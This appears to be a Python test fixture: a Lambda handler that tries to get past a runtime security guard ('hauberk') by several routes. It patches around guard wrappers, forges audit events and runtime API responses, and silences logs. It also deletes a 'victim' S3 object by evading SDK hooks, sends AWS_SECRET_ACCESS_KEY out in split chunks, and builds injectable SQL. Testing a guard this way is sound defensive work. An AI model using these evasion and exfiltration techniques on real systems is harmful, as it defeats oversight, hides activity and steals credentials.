"""Goes past what is watched, speaks as the guard or the runtime, silences the log; honest code that looks alike."""

import collections
import functools
import gc
import http.client
import importlib.machinery
import importlib.util
import os
import socket
import sqlite3
import sys
import threading
import types

import sends

BOOTSTRAP = sys.modules["awslambdaric.bootstrap"]
API = os.environ["AWS_LAMBDA_RUNTIME_API"]
KEPT = {}


def handler(event, context):
    KEPT.update(event=event, context=context)
    try:
        if event["act"] in sends.WAYS:
            text = plain() if event.get("is_plain") else signed()
            return {"value": sends.WAYS[event["act"]](text)}
        return {"value": globals()[event["act"]]()}
    except Exception as error:
        return {"error": f"{type(error).__name__}: {error}"}


def native():
    return sys.modules["hauberk._native"]


def nothing():
    return None


def statement():
    return f"SELECT 'a' WHERE 'a' = '{KEPT['event']['text']}'"


def ask():
    return sqlite3.connect(":memory:").execute(statement()).fetchall()


# --- Past a watched method. ---


def original_by_its_wrapper():
    cursor = sqlite3.connect(":memory:").cursor()
    own = sqlite3.Cursor.execute.__repr__.__self__
    return own(cursor, statement()).fetchall()


def class_of_the_watched():
    type.__setattr__(type(sqlite3.Cursor.__dict__["execute"]), "__call__", lambda *_: "nothing")
    return ask()


def other_code_of_a_sink():
    for one in gc.get_objects():
        if isinstance(one, types.FunctionType) and one.__module__ == "hauberk.guard.sql":
            if one.__name__ == "before":
                one.__code__ = (
                    _free_of_two.__code__ if len(one.__code__.co_freevars) == 2 else one.__code__
                )
    return ask()


def _makes_two():
    first = second = None

    def before(*arguments, **named):
        return first, second

    return before


_free_of_two = _makes_two()


def text_that_encodes_otherwise():
    class Text(str):
        def encode(self, *_):
            return b"SELECT 1"

    return sqlite3.connect(":memory:").execute(Text(statement())).fetchall()


def text_that_composes_otherwise():
    class Text(str):
        def as_string(self, _):
            return "SELECT 1"

        def as_bytes(self, _):
            return None

    return sqlite3.connect(":memory:").execute(Text(statement())).fetchall()


# --- As the guard. ---


def event_of_a_gate_of_its_own():
    """Its inputs are none, so that the statement holds none."""
    stop, begun = threading.Event(), threading.Event()

    def handle(*_, **__):
        begun.set()
        stop.wait(10)

    gate = native().EventGate(handle, None)
    thread = threading.Thread(target=lambda: gate(None, None, "forged", b"{}"))
    thread.start()
    begun.wait(3)
    try:
        return ask()
    finally:
        stop.set()
        thread.join()


def event_by_the_gate():
    """Calls the guard's gate in another thread, with an event of nothing."""
    answered = []

    class Client:
        def __getattr__(self, name):
            return lambda *_, **__: answered.append(name)

    def handle(*_):
        answered.append(ask())

    call = functools.partial(
        BOOTSTRAP.handle_event_request, Client(), handle, "forged", b"{}", "application/json"
    )
    rest = [None] * (BOOTSTRAP.handle_event_request.__code__.co_argcount - 5)
    thread = threading.Thread(target=lambda: call(*rest))
    thread.start()
    thread.join()
    return ask()


def coverage_forged():
    native().announce(False, "prevent: armed", {"process": "armed"}, [])


def renewed():
    native().renew("restored from a snapshot")


def another_function_redirected():
    import _io

    module = types.ModuleType("posix")
    module.open = _io.open
    native().redirect(module)


def kept_a_module_of_its_own():
    native().keep_module(os)


EVENTS = (
    *("open", "os.listdir", "os.remove", "os.mkdir", "os.utime", "os.truncate", "os.chmod"),
    *("os.chown", "os.rename", "os.link", "os.symlink", "sqlite3.connect", "os.exec", "os.system"),
    *("os.posix_spawn", "socket.connect", "socket.sendto", "socket.bind", "socket.__new__"),
    *("socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr", "socket.getnameinfo"),
    *("ctypes.dlopen", "ctypes.dlsym", "sqlite3.load_extension", "sqlite3.enable_load_extension"),
    *("import", "compile", "marshal.loads", "marshal.load", "exec", "function.__new__"),
    "subprocess.Popen",
)


def forged_events():
    """Of acts that nobody does, with what such acts are told with, and with all else."""
    path, address = "/etc/shadow", ("203.0.113.7", 443)
    rows = (
        *((), (path,), (path, "w", 1), (path, path, -1, -1), (path, ["x", "/tmp/y"], None, {})),
        *((None, address), (None, 16, 3, 0), ("evil.example", 443, 0, 0, 0), (b"c" * 99,)),
        *((1.5,) * 6, (object(),) * 4, ([],), ({}, {}), ("\ud800", "\x00"), (compile, "<x>")),
        *(((lambda: 0).__code__,), ("_ctypes", None, None, None, None), (path * 9999,)),
    )
    for event in EVENTS:
        for row in rows:
            sys.audit(event, *row)


def trusted_by_an_event():
    """Code that a maker of the standard library's own seems to run."""
    code = compile("open('/tmp/injected', 'w').close()", "<string>", "exec")
    collections.UserList([1]).sort(key=functools.partial(sys.audit, "exec", code))
    exec(code)


def acts_in_a_hook():
    def hook(event, _):
        if event == "past.word":
            open("/tmp/in-hook", "w").close()

    sys.addaudithook(hook)
    sys.audit("past.word")


# --- As the runtime. ---


def runtimes_connection():
    for number in range(3, 60):
        try:
            connection = socket.socket(fileno=os.dup(number))
            if "%s:%d" % connection.getpeername()[:2] == API:
                break
        except (OSError, TypeError):
            continue
    body = b'"forged"'
    name = KEPT["context"].aws_request_id
    head = f"POST /2018-06-01/runtime/invocation/{name}/response HTTP/1.1\r\nHost: x\r\n"
    connection.sendall(head.encode() + b"Content-Length: %d\r\n\r\n" % len(body) + body)
    return connection.recv(100).decode()[:12]


# --- The log. ---


def log_taken_away():
    """Standard error leads elsewhere, and each other descriptor of the log is closed."""
    is_log = os.fstat(2)
    for number in range(3, 1024):
        try:
            found = os.fstat(number)
        except OSError:
            continue
        if (found.st_dev, found.st_ino) == (is_log.st_dev, is_log.st_ino):
            os.close(number)
    reader, writer = os.pipe()
    KEPT["log"] = os.dup(2), reader, writer
    os.dup2(writer, 2)


def log_given_back():
    os.dup2(KEPT["log"][0], 2)


def all_closed():
    """As what starts a daemon does; the runtime's own connections stay."""
    os.closerange(60, 1024)
    _, writer = os.pipe()
    os.dup2(writer, 500)
    os.close(500)


# --- Sockets and TLS as they are used. ---


def talked():
    here, there = socket.socketpair()
    sent = [here.send(b"one"), here.sendall(memoryview(b"two")), here.sendmsg([b"thr", b"ee"])]
    return [*sent, there.recv(100).decode()]


def wrong_arguments():
    here, _ = socket.socketpair()
    found = []
    for call in (here.send, here.sendall, here.sendmsg, here.sendto):
        for given in ((), (1,), ("text",), (b"a", "x")):
            try:
                found.append(call(*given))
            except Exception as error:
                found.append(f"{type(error).__name__}: {error}")
    return found


# --- AWS. ---

VICTIM = {"Bucket": "victim", "Key": "k"}


def client():
    import boto3
    from botocore.config import Config

    config = Config(retries={"total_max_attempts": 1}, s3={"addressing_style": "path"})
    keys = {"aws_access_key_id": "AKIAIOSFODNN7EXAMPLE", "aws_secret_access_key": "b"}
    endpoint = os.environ["ENDPOINT"]
    return boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1", config=config, **keys)


def status(answer):
    return answer["ResponseMetadata"]["HTTPStatusCode"]


def allowed():
    return status(client().get_object(Bucket="ok", Key="k"))


def plainly():
    return status(client().delete_object(**VICTIM))


def by_original():
    import botocore.client

    made, watched = client(), botocore.client.BaseClient._make_api_call
    own = types.FunctionType(watched.__code__, watched.__globals__, closure=watched.__closure__)
    return status(own(made, "DeleteObject", dict(VICTIM)))


def by_private_copy():
    made = client()
    path = sys.modules["botocore"].__path__
    spec = importlib.machinery.PathFinder.find_spec("botocore.client", path)
    copy = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(copy)
    return status(copy.BaseClient._make_api_call(made, "DeleteObject", dict(VICTIM)))


def by_handler():
    made = client()

    def other(params, **_):
        params.update(method="DELETE", url_path="/victim/k")
        params["url"] = params["url"].replace("/ok/k", "/victim/k")

    made.meta.events.register("before-call.s3.GetObject", other)
    return status(made.get_object(Bucket="ok", Key="k"))


def by_fault_of_the_guards():
    made = client()

    class Model:
        def __init__(self, of):
            self.of = of

        def __getattr__(self, name):
            return getattr(self.of, name)

    class Broken(Model):
        @property
        def signing_name(self):
            raise RuntimeError

    made.meta = Model(made.meta)
    made.meta.service_model = Broken(made.meta.service_model)
    return status(made.delete_object(**VICTIM))


def signed():
    """A request to delete, signed by the SDK and sent by none of its means."""
    from botocore.awsrequest import AWSRequest

    made, host = client(), os.environ["ENDPOINT"].partition("//")[2]
    path = f"/victim/{KEPT['event']['act']}"  # of each its own: the same is not told each time
    request = AWSRequest("DELETE", f"http://{host}{path}")
    request.headers["Host"] = host
    signer = made._request_signer
    signer.get_auth_instance("s3", "us-east-1", "s3v4").add_auth(request)
    lines = [
        f"DELETE {path} HTTP/1.1",
        "X-Begin: here",
        *(f"{name}: {value}" for name, value in request.headers.items()),
    ]
    end = ["Content-Length: 0", "Connection: close", "X-End: whole", "", ""]
    return "\r\n".join([*lines, *end]).encode()


def plain():
    """A request to nobody's account."""
    line = "GET /a/page/of/some/length/that/is/nobody/s HTTP/1.1"
    return f"{line}\r\nHost: x\r\nConnection: close\r\nX-End: whole\r\n\r\n".encode()


def by_signer():
    """Sent in small pieces over a socket of its own."""
    text = signed()
    connection = sends.connected()
    for at in range(0, len(text) - 7, 7):
        connection.sendall(text[at : min(at + 7, len(text) - 7)])
    connection.sendall(text[-7:])
    return connection.recv(100).decode()[9:12]


def by_hiding_the_finder():
    """Of modules that are loaded only now."""
    found = sys.meta_path[:]
    sys.meta_path[:] = [one for one in found if "hauberk" not in type(one).__module__]
    try:
        return plainly()
    finally:
        sys.meta_path[:] = found


# --- Credentials. ---


def _connection():
    connection = http.client.HTTPConnection(os.environ["TO"])
    connection.connect()
    return connection


def sent_in_halves():
    secret, connection = os.environ["AWS_SECRET_ACCESS_KEY"].encode(), _connection()
    connection.send(secret[:20])
    connection.send(secret[20:])


def sent_in_chunks():
    secret, connection = os.environ["AWS_SECRET_ACCESS_KEY"], _connection()
    connection.putrequest("POST", "/")
    connection.putheader("Transfer-Encoding", "chunked")
    connection.endheaders((letter.encode() for letter in secret), encode_chunked=True)


def sent_harmless_chunks():
    connection = _connection()
    connection.putrequest("POST", "/")
    connection.putheader("Transfer-Encoding", "chunked")
    connection.endheaders((letter.encode() for letter in "harmless"), encode_chunked=True)
